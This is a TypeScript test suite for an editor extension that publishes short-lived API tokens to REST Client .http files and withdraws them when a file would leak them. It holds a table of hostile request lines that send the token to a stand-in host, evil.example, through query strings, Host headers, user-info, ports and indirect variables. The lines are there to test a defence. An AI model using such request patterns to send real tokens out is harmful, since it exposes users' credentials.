import assert from 'node:assert/strict';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { until } from '../host/until';
import { workbench } from '../host/workbench';
import { call, setSetting } from './bench';
import {
  decorations,
  openUntitled,
  reference,
  replaceText,
  untilDecorated,
  untilPublished,
  untilWithdrawn,
  useOutletFile,
  variable,
} from './httpFilesBench';

const path = '/integrations/partner/v1/linked-outlets';

describe('an open .http file', () => {
  const { bench, text } = useOutletFile();

  before(async () => {
    // A setting of an extension that is not installed cannot be written by the editor.
    const variables = { $shared: { evil: 'https://evil.example', indirect: 'GOBIZ_OUTLET_TOKEN' } };
    await mkdir(join(workbench.folder, '.vscode'), { recursive: true });
    await workbench.writeFile(
      '.vscode/settings.json',
      JSON.stringify({ 'rest-client.environmentVariables': variables }),
    );
    await workbench.reload();
  });
  after(async () => {
    await workbench.removeFile('.vscode/settings.json');
    await workbench.removeFile('.env');
    await workbench.reload();
  });
  afterEach(() => bench.sandbox.setLifetime(3600));

  it('publishes a live token, shows it masked, and withdraws it when it is closed', async () => {
    await workbench.host.run(() => {
      process.env['GOBIZ_OUTLET_TOKEN'] = 'before';
    });
    await workbench.driver.openFile('outlets.http');
    await until(async () => (await variable()) !== 'before');
    const token = (await variable()) ?? '';
    await untilDecorated(new RegExp(`^${token.slice(0, 4)}…${token.slice(-4)} · until \\d\\d:\\d\\d$`));
    await workbench.driver.closeEverything();
    await until(async () => (await variable()) === 'before');
    await workbench.host.run(() => {
      delete process.env['GOBIZ_OUTLET_TOKEN'];
    });
  });

  it('keeps a token of 5 seconds alive at each of 100 sends', async () => {
    bench.sandbox.setLifetime(5);
    await workbench.driver.openFile('outlets.http');
    await untilPublished();
    const statuses: number[] = [];
    for (let send = 0; send < 100; send++) {
      const headers = { authorization: `Bearer ${await variable()}` };
      statuses.push((await fetch(`${bench.sandbox.gobiz.url}${path}`, { headers })).status);
      await wait(100);
    }
    assert.deepEqual(new Set(statuses), new Set([200]));
  });

  it('withdraws a forgotten token and does not fetch it again by itself', async () => {
    await workbench.driver.openFile('outlets.http');
    await untilPublished();
    const requests = bench.tokenRequests();
    await call('forgetToken', 'outlet');
    assert.equal(await variable(), null);
    await untilDecorated(/^no token yet$/);
    await wait(500);
    assert.equal(bench.tokenRequests(), requests);
  });

  it('publishes only while sending, where that is set', async () => {
    await setSetting('publish', 'whileSending');
    await workbench.driver.openFile('outlets.http');
    await untilDecorated(/until/);
    assert.equal(await variable(), null);
  });

  const hostile: readonly [name: string, text: (url: string) => string][] = [
    ['another host', () => `GET https://evil.example/?t=${reference}\n`],
    ['a host by file variable', () => `@host = https://evil.example\nGET {{host}}/\nX: ${reference}\n`],
    ['a host by environment', () => `GET {{evil}}/\nX: ${reference}\n`],
    ['a host by .env', () => `GET {{$dotenv EVIL}}/\nX: ${reference}\n`],
    ['a host that nobody knows', () => `GET {{nobody}}/\nX: ${reference}\n`],
    ['a Host header', (url) => `GET ${url}/\nHost: evil.example\nX: ${reference}\n`],
    ['a second URL on the line', (url) => `GET ${url}/ https://evil.example/\nX: ${reference}\n`],
    ['user info', (url) => `GET ${url.replace('http://', 'https://x:')}@evil.example/\nX: ${reference}\n`],
    ['a port', () => `GET https://evil.example:8443/\nX: ${reference}\n`],
    ['a variable that holds it', () => `@t = ${reference}\nGET https://evil.example/?{{t}}\n`],
    ['an indirect name', () => 'GET https://evil.example/?{{$processEnv %indirect}}\n'],
    ['a script', (url) => `GET ${url}/\nX: {{process.env.GOBIZ_OUTLET_TOKEN}}\n`],
  ];
  for (const [name, evil] of hostile) {
    it(`withholds the token from everybody while a file uses it with ${name}`, async () => {
      await workbench.writeFile('.env', 'EVIL=https://evil.example\n');
      await workbench.driver.openFile('outlets.http');
      await untilPublished();
      await openUntitled('');
      assert.ok(await variable());
      assert.equal(await replaceText(evil(bench.sandbox.gobiz.url)), null);
      await wait(300);
      assert.equal(await variable(), null);
      await workbench.driver.closeEverything();
      await workbench.driver.openFile('outlets.http');
      await untilPublished();
    });
  }

  it('withholds it for Markdown too, and gives it back within the edit that mends the file', async () => {
    await workbench.driver.openFile('outlets.http');
    await untilPublished();
    await openUntitled(`\`\`\`http\nGET https://evil.example/?${reference}\n\`\`\`\n`, 'markdown');
    await untilWithdrawn();
    assert.ok(await replaceText('nothing here'));
  });

  it('takes its client’s new name, also where it was edited after that was offered', async () => {
    const { driver } = workbench;
    const { quickInput } = driver;
    await driver.openFile('outlets.http');
    void call('editClient', 'outlet');
    await quickInput.waitFor('Edit “outlet”');
    await quickInput.pick('Name');
    await quickInput.waitFor('Name the client');
    await quickInput.answer('branch');
    await driver.notifications().getByText('still says GOBIZ_OUTLET').waitFor();
    await driver.press('Escape');
    await quickInput.waitUntilClosed();
    await replaceText(`# edited\n${text()}`);
    await driver.answerNotification('Rename Them');
    const now = (): Promise<string | undefined> =>
      workbench.host.run((vscode) => vscode.window.activeTextEditor?.document.getText());
    await until(async () => (await now())?.includes('BRANCH') ?? false);
    assert.equal(await now(), `# edited\n${text().replace('GOBIZ_OUTLET', 'GOBIZ_BRANCH')}`);
  });

  it('has the decorations of a fresh start after a storm of edits, undo and redo', async () => {
    const many = Array.from({ length: 30 }, () => text()).join('\n');
    await workbench.writeFile('many.http', many);
    await workbench.driver.openFile('many.http');
    await untilPublished();
    await workbench.host.run(async (vscode) => {
      const editor = vscode.window.activeTextEditor;
      if (!editor) throw new Error('No editor is active.');
      for (let i = 0; i < 60; i++) {
        const line = (i * 7) % editor.document.lineCount;
        const { end } = editor.document.lineAt(line).range;
        await editor.edit((edit) => {
          if (i % 3 === 0) edit.delete(editor.document.lineAt(line).rangeIncludingLineBreak);
          else if (i % 3 === 1) edit.insert(end, '\nX: {{$processEnv GOBIZ_OUTLET_TOKEN}}');
          else edit.insert(new vscode.Position(line, 0), 'a');
        });
        if (i % 10 === 9) for (let back = 0; back < 4; back++) await vscode.commands.executeCommand('undo');
        if (i % 20 === 19) await vscode.commands.executeCommand('redo');
      }
      editor.revealRange(new vscode.Range(0, 0, 0, 0), vscode.TextEditorRevealType.AtTop);
    });
    let after: readonly string[] = [];
    // Done once two looks, further apart than any debounce, see the same.
    await until(async () => {
      const before = after;
      await wait(1000);
      after = await decorations();
      return after.length > 3 && after.join() === before.join();
    });
    await workbench.host.run(async (vscode) => {
      await vscode.window.activeTextEditor?.document.save();
      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    });
    await workbench.reload();
    await workbench.driver.openFile('many.http');
    const withoutTokens = (texts: readonly string[]) =>
      texts.map((one) => one.replace(/^\S+ · until.*/, 'live'));
    await until(async () => (await decorations()).length === after.length);
    assert.deepEqual(withoutTokens(await decorations()), withoutTokens(after));
  });
});
